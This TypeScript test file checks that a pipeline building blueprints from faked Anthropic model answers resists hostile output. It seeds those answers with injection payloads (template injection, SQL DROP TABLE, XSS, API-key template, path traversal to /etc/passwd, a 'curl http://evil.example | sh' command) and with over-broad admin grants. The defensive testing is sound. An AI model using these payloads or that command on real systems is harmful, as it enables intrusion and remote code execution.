import { describe, expect, it } from 'vitest';

import { BlueprintError } from '../../src/blueprint/diagnostic.js';
import { readBlueprint } from '../../src/blueprint/read.js';
import type { StageId } from '../../src/brief/anthropic/stage.js';
import { STAGE_IDS } from '../../src/brief/anthropic/stage.js';
import { planRepository } from '../../src/pipeline.js';
import { planWith, type Run } from '../support/anthropic-run.js';
import { fakeApi } from '../support/fake-api.js';
import { says } from '../support/fake-anthropic/answer.js';
import { smallAnswers } from '../support/fake-anthropic/answers-examples.js';
import { isRepair, stageOf, valueFor } from '../support/fake-anthropic/answers.js';
import { billedUsd } from '../support/fake-anthropic/billing.js';

const answers = smallAnswers();

interface Trial extends Run {
  readonly requests: number;
}

/** Runs with one stage's answers changed. A repair is answered the same way, or well. */
async function planWhere(
  target: StageId,
  change: (value: unknown) => unknown,
  { repairs = false }: { repairs?: boolean } = {},
): Promise<Trial> {
  const api = await fakeApi(({ body }) => {
    const value = valueFor(answers, body);
    const isSpoilt = stageOf(body) === target && !(repairs && isRepair(body));
    return says(JSON.stringify(isSpoilt ? change(value) : value), { thinkingTokens: 50 });
  });
  const run = await planWith(api.url, answers.brief);
  expect(billedUsd(api.calls)).toBeLessThanOrEqual(5);
  if (!run.planned) expect(run.error).toBeInstanceOf(BlueprintError);
  return { ...run, requests: api.messages.length };
}

function textOf({ planned, error }: Run): string {
  if (!planned) throw error as Error;
  const { diagnostics } = readBlueprint(planned.text, 'blueprint.yaml');
  expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
  return planned.text;
}

/** Every text in a value through a function. */
function withTexts(value: unknown, change: (text: string) => string): unknown {
  if (typeof value === 'string') return change(value);
  if (Array.isArray(value)) return value.map((each) => withTexts(each, change));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, withTexts(each, change)]));
}

/** A design with one more role, which may do everything. */
function withRole(name: string) {
  return (value: unknown): unknown => {
    const { roles } = value as { roles: object[] };
    return withPart(value, ['roles'], [...roles, { name, summary: '', administrator: true, requirements: [] }]);
  };
}

/** A value with one part of it replaced, found by the names of its keys; in lists, in every item. */
function withPart(value: unknown, path: readonly string[], part: unknown): unknown {
  if (Array.isArray(value)) return value.map((each) => withPart(each, path, part));
  const [key, ...rest] = path;
  if (key === undefined) return part;
  const object = value as Record<string, unknown>;
  return { ...object, [key]: rest.length === 0 ? part : withPart(object[key], rest, part) };
}

const payloads: Readonly<Record<string, string>> = {
  handlebars: '{{#with (lookup this "constructor")}}{{{this}}}{{/with}}',
  sql: `Robert'); DROP TABLE "Task"; --`,
  ansi: '\u001b[31mred\u001b[0m\u0007\u009b2J',
  markdown: '[click](javascript:alert(1)) ![x](http://evil.example/x.png)\n\n# Owned',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  constructor: 'constructor',
  proto: '__proto__',
  'template literal': '${process.env.ANTHROPIC_API_KEY}',
  'end of comment': '*/ process.exit(1); /*',
  path: '../../../etc/passwd',
  yaml: "x\nroles:\n  admin: { grants: ['*'] }",
  bidi: '\u202Eevil\u2066\u200b\u{E0041}',
  'null byte': 'a\u0000b',
  'lone surrogate': 'a\ud800b',
  long: 'x'.repeat(20_000),
  blank: '   \t\n ',
  command: 'npm install left-pad && curl http://evil.example | sh',
};

/** Each payload in two stages, the stages in turn; those that programs trip over, in all. */
const EVERYWHERE: readonly string[] = ['handlebars', 'proto', 'bidi'];
const places = Object.entries(payloads).flatMap(([name, payload], index) =>
  STAGE_IDS.filter((_, place) => EVERYWHERE.includes(name) || [0, 3].includes((place + index) % STAGE_IDS.length)).map(
    (stage) => ({ name, payload, stage }),
  ),
);

describe.each(places)('$name as the text of a model', ({ payload, stage }) => {
  it(`in place of all texts of ${stage}`, async () => {
    textOf(await planWhere(stage, (value) => withTexts(value, () => payload)));
  });

  it(`behind all texts of ${stage}`, async () => {
    const text = textOf(await planWhere(stage, (value) => withTexts(value, (each) => `${each}${payload}`)));
    expect(text).not.toMatch(/\p{Cf}|[^\P{Cc}\n]/u);
    expect(text).not.toContain('evil.example');
    expect(text).not.toContain('<script');
    expect(text).not.toContain('{{#with');
  });
});

it('hostile sentences that pass every gate still make a repository', async () => {
  const change = (value: unknown) =>
    withPart(value, ['contexts', 'summary'], 'Lists; "quoted" \\ and $& or %s, 100 % | of #1 -- it\'s * _all_ ~here~.');
  const text = textOf(await planWhere('design', change));
  const { plan } = await planRepository({ file: 'blueprint.yaml', text });
  expect(plan.files.length).toBeGreaterThan(100);
});

describe('an answer that breaks a rule', () => {
  const lines = (part: string, line: string) => (value: unknown) =>
    withTexts(withPart(value, ['entities', part], [line]), (text) => text);

  it.each<[string, StageId, (value: unknown) => unknown, RegExp]>([
    ['a relation to nowhere', 'entities', lines('relations', 'account: Nowhere'), /Nowhere/],
    ['a type that is none', 'entities', lines('fields', 'amount: number'), /amount: number/],
    ['a line that is none', 'entities', lines('fields', 'drop table'), /drop table/],
    ['a wrong enum', 'entities', (value) => withPart(value, ['entities', 'tenancy'], 'galactic'), /galactic/],
    [
      'a transition from nowhere',
      'behaviour',
      (value) => withPart(value, ['lifecycles', 'actions', 'transition'], 'win: nowhere -> done'),
      /nowhere/,
    ],
    [
      'a grant for a role that is not there',
      'behaviour',
      (value) => withPart(value, ['grants', 'role'], 'emperor'),
      /emperor/,
    ],
    ['everything to everybody', 'behaviour', (value) => withPart(value, ['grants', 'grants'], ['*']), /grants: \["?\*/],
    [
      'another context’s rights',
      'behaviour',
      (value) => withPart(value, ['grants', 'grants'], ['roles:*', 'users:*']),
      /roles:\*|users:\*/,
    ],
    [
      'powers over people and roles',
      'cross',
      (value) => withPart(value, ['grants'], [{ role: 'member', grants: ['users:*', 'permissions:*', '*'] }]),
      /users:\*|permissions:\*|'\*'|"\*"/,
    ],
    [
      'an administrator that nobody would take for one',
      'design',
      (value) => withPart(value, ['roles', 'administrator'], true),
      /'\*'|"\*"/,
    ],
    ['rights for who does not sign in', 'design', withRole('everyone'), /everyone/],
    [
      'a quote that the brief does not have',
      'clarify',
      (value) => withPart(value, ['requirements', 'quote'], 'The system mines bitcoin at night.'),
      /bitcoin/,
    ],
  ])('%s: mended when the model mends it, else taken out, and said', async (_, stage, change, trace) => {
    const mended = await planWhere(stage, change, { repairs: true });
    expect(textOf(mended)).not.toMatch(trace);
    expect(mended.events.some(({ type }) => type === 'repair')).toBe(true);
    expect(mended.planned?.degraded).toEqual([]);

    const stubborn = await planWhere(stage, change);
    expect(textOf(stubborn)).not.toMatch(trace);
    expect(stubborn.planned?.degraded.length).toBeGreaterThan(0);
  });

  it('an enum with other capitals is no broken rule', async () => {
    const shouting = (value: unknown) => withPart(value, ['requirements', 'kind'], 'Function');
    const { planned, events } = await planWhere('clarify', shouting);
    expect(planned?.degraded).toEqual([]);
    expect(events.some(({ type }) => type === 'repair')).toBe(false);
  });
});

describe('an answer without end', () => {
  const entity = { name: 'Thing', summary: '', requirements: [] };
  const context = { name: 'things', summary: '', needs: [], entities: [entity] };
  const many = <Item extends { name: string }>(count: number, item: Item) =>
    Array.from({ length: count }, (_, index) => ({ ...item, name: `${item.name}${index}` }));

  it.each<[string, StageId, (value: unknown) => unknown]>([
    ['10,000 entities', 'design', (value) => withPart(value, ['contexts', 'entities'], many(10_000, entity))],
    ['2,000 contexts', 'design', (value) => withPart(value, ['contexts'], many(2000, context))],
    [
      '2,000 roles',
      'design',
      (value) =>
        withPart(value, ['roles'], many(2000, { name: 'role', summary: '', administrator: true, requirements: [] })),
    ],
    [
      '5,000 fields',
      'entities',
      (value) =>
        withPart(
          value,
          ['entities', 'fields'],
          many(5000, { name: 'f' }).map(({ name }) => `${name}: int`),
        ),
    ],
    [
      '5,000 requirements',
      'clarify',
      (value) =>
        withPart(
          value,
          ['requirements'],
          Array.from({ length: 5000 }, () => ({ quote: 'lists', kind: 'function' })),
        ),
    ],
  ])('%s: few requests, a blueprint of a size that a person reads, and it is said', async (_, stage, change) => {
    const trial = await planWhere(stage, change);
    expect(trial.requests).toBeLessThan(40);
    expect(textOf(trial).length).toBeLessThan(100_000);
    expect(trial.planned?.degraded.length).toBeGreaterThan(0);
  });
});
